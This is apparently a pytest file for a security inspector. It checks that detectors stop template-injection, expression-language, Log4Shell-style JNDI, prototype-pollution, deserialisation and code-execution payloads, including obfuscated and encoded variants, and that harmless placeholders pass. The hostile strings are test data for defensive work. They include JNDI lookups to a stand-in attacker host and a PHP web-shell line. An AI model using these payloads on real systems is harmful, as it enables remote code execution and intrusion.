"""Hostile case B-119: templates, expression languages and code, through the real inspector."""

from __future__ import annotations

import pytest
from tests.support.codings import PLACES, Coding, base64_of, escaped, once, references, twice, wide
from tests.support.suspects import STOPS, Suspects

from vallum.inspection.detectors import code, deserialisation, prototype, template
from vallum.inspection.model import Location

SUSPECTS = Suspects(code.DETECTOR, deserialisation.DETECTOR, prototype.DETECTOR, template.DETECTOR)


CODINGS: tuple[Coding, ...] = (
    str,
    once,
    twice,
    escaped,
    references,
    wide,
    base64_of,
)


@pytest.mark.parametrize("location", PLACES)
@pytest.mark.parametrize(
    "text",
    [
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "#{T(java.lang.Runtime).getRuntime().exec('id')}",
        "<%= 7*7 %>",
        "<%= system('id') %>",
        "*{7*7}",
        "@(1+1)",
        "${jndi:ldap://attacker.example/a}",
        "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
    ],
)
def test_b119_expressions_are_stopped_everywhere(text: str, location: Location) -> None:
    assert SUSPECTS.score(text, location) >= STOPS


@pytest.mark.parametrize("name", ["user-agent", "x-api-version", "referer", "x-forwarded-for"])
@pytest.mark.parametrize(
    "text",
    [
        "${jndi:ldap://attacker.example/a}",
        "Mozilla/5.0 (X11; Linux x86_64) ${jndi:rmi://attacker.example/a}",
        "${${lower:j}ndi:${lower:l}dap://attacker.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example/a}",
        "${${env:NONE:-j}ndi${env:NONE:-:}ldap://attacker.example/a}",
        "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/a}",
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/a}",
    ],
)
def test_b119_lookups_are_stopped_in_every_header(text: str, name: str) -> None:
    assert SUSPECTS.score(text, "header", name=name) >= 8


@pytest.mark.parametrize("coding", CODINGS)
@pytest.mark.parametrize(
    "text",
    [
        "${jndi:ldap://attacker.example/a}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "<?php system($_GET['cmd']); ?>",
        "require('child_process').execSync('id')",
        "__import__('os').system('id')",
        "java.lang.Runtime.getRuntime().exec('id')",
        'O:8:"stdClass":1:{s:1:"a";i:1;}',
        "a[__proto__][admin]=1",
    ],
)
def test_b119_codings_hide_nothing(text: str, coding: Coding) -> None:
    assert SUSPECTS.score(coding(text)) >= STOPS


@pytest.mark.parametrize(
    "text",
    [
        "{{ name }}",
        "${name}",
        "#{order_id}",
        "Hello {{first_name}}!",
        "Put ${HOME}/bin first in your path",
        'print("hi")',
        'System.out.println("hi");',
        "console.log(x)",
        "require('fs')",
        "import os",
        "You should not call exec('ls') from PHP on input of users.",
    ],
)
def test_b119_placeholders_and_harmless_code_pass(text: str) -> None:
    assert SUSPECTS.score(text, "body") < STOPS
